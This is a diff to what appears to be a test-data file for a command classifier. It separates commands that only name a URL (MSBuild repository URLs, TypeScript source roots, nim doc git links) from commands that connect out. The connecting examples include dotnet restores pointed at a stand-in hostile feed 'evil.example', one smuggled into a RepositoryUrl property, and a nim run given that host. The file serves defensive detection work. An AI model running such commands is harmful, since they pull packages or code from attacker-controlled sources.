@@ -195,6 +195,10 @@ NAMING_ONLY = [
     # MSBuild properties a package only records: the repository's and the project's address
     ("powershell", "dotnet build -c Release /p:RepositoryUrl=https://github.com/org/repo"),
     ("posix", "dotnet pack -c Release -p:PackageProjectUrl=https://example.org"),
+    # where source maps and generated docs say the sources live; a link checker's own site
+    ("posix", "tsc --sourceRoot https://raw.githubusercontent.com/org/repo/main/src/"),
+    ("posix", "nim doc --project --git.url:https://github.com/org/repo --git.commit:main -o:docs src/x.nim"),
+    ("posix", "hyperlink --canonicalroot https://design.example.org/ --internal build/sitemap.xml"),
 ]
 CONNECTS = [
     ("posix", "hugo --baseURL https://example.org/ --url http://10.0.0.1:1313/x"),
@@ -207,6 +211,8 @@ CONNECTS = [
     ("powershell", "dotnet build /p:RestoreSources=https://evil.example/feed"),  # a feed restore reads
     ("posix", "dotnet build '/p:RepositoryUrl=https://github.com/o/r;RestoreSources=https://evil.example/'"),
     ("powershell", "robocopy . /dest://srv/share"),
+    ("posix", "nim c --git.url:https://github.com/org/repo -r x.nim https://evil.example/"),
+    ("posix", "mytool --proxy:http://proxy.example:8080"),
 ]
 
 
